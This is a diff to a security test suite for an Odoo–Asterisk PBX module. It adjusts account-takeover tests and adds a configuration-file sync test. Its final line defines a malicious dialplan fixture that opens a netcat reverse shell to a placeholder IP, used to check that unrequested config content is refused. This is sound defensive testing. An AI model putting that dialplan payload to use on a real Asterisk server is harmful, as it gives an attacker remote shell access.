@@ -6,12 +6,11 @@ class's own redis-server first, as the agent would, and handed over with their s
 
 import json
 
-from odoo.exceptions import AccessError, UserError, ValidationError
+from odoo.exceptions import AccessError, ValidationError
 from odoo.tests import tagged
 
 from .test_console_ban_call import RedisCase
 
-REFUSED = (AccessError, UserError, ValidationError)
 BUTTONS = (
     "action_test",
     "action_ping",
@@ -54,7 +53,8 @@ class SecurityCase(RedisCase):
         )
 
     def notes_to(self, user):
-        """How many bus.bus notifications went to the user's partner."""
+        """How many bus.bus notifications went to the user's partner (Odoo 18 writes them at precommit)."""
+        self.env.cr.flush()
         channels = self.env["bus.bus"].search([("channel", "like", "res.partner")]).mapped("channel")
         return sum(1 for c in channels if json.loads(c)[-2:] == ["res.partner", user.partner_id.id])
 
@@ -88,11 +88,15 @@ class TestSystemAccountTakeover(SecurityCase):
             }
         )
         for victim in (self.env.ref("base.user_admin"), self.internal_user(), customer):
-            with self.subTest(victim=victim.login), self.assertRaises(REFUSED), self.env.cr.savepoint():
+            with (
+                self.subTest(victim=victim.login),
+                self.assertRaises(ValidationError),
+                self.env.cr.savepoint(),
+            ):
                 self.server.with_env(admin).write({"user_id": victim.id})
             with (
                 self.subTest(victim=victim.login, new=True),
-                self.assertRaises(REFUSED),
+                self.assertRaises(ValidationError),
                 self.env.cr.savepoint(),
             ):
                 admin["asterisk_plus.server"].create({"name": f"pbx-{victim.login}", "user_id": victim.id})
@@ -107,7 +111,7 @@ class TestSystemAccountTakeover(SecurityCase):
             "UPDATE asterisk_plus_server SET user_id = %s WHERE id = %s", [admin_user.id, self.server.id]
         )
         self.server.invalidate_recordset()
-        with self.assertRaises(REFUSED), self.env.cr.savepoint():
+        with self.assertRaisesRegex(AccessError, "not the portal user made for"), self.env.cr.savepoint():
             self.server.with_env(self.admin()).write({"password": "taken-over"})
         self.env.cr.execute("SELECT password FROM res_users WHERE id = %s", [admin_user.id])
         self.assertEqual(self.env.cr.fetchone()[0], before)
@@ -190,7 +194,33 @@ class TestSystemAccountConfFiles(SecurityCase):
         super().setUp()
         self.need_redis()
         self.server.write({"initial_update_done": True, "update_direction": "odoo_to_asterisk"})
+        self.env["asterisk_plus.conf"].search(
+            [("server_id", "=", self.server.id)]
+        ).unlink()  # a used database
         self.set_conf("extensions.conf", "[default]\n")
+
+    def test_the_initial_update_keeps_odoos_files_a_download_overwrites_them(self):
+        self.server.initial_update_done = False
+        files = self.as_system["asterisk_plus.conf"]
+        files.bridge_on_files("asterisk1", [self.conf_file("sip.conf", "a", mode="keep_existing")])
+        files.bridge_on_files("asterisk1", [self.conf_file("sip.conf", "b", mode="keep_existing")])
+        record = self.conf("sip.conf")
+        self.assertEqual(record.content, "a")
+        self.server.initial_update_done = True
+        self.server.with_env(self.admin()).action_download_conf()
+        self.commit_hooks()
+        request = self.entries("commands:conf_sync")[-1]["@id"]
+        [result] = files.bridge_on_files("asterisk1", [self.conf_file("sip.conf", "c", request=request)])
+        self.assertEqual((result["status"], record.content), ("ok", "c"))
+        self.assertFalse(record.changed_since_sync)
+        record.content = "edited in odoo"
+        self.assertTrue(record.changed_since_sync)
+        plan = self.on_bus(
+            "commands:odoo_bridge", {"@type": "conf.plan", "@server": "asterisk1", "@id": "p" * 32}
+        )
+        changed = files.bridge_get_files("asterisk1", True, {"@entry": plan["@entry"], "@id": plan["@id"]})
+        self.assertIn({"name": "sip.conf", "content": "edited in odoo"}, changed)
+        self.assertNotIn("extensions.conf", [f["name"] for f in changed])
 
     def test_conf_content_nobody_asked_for_is_refused(self):
         evil = "[default]\nexten => _X.,1,System(nc -e /bin/sh 203.0.113.66 4444)\n"
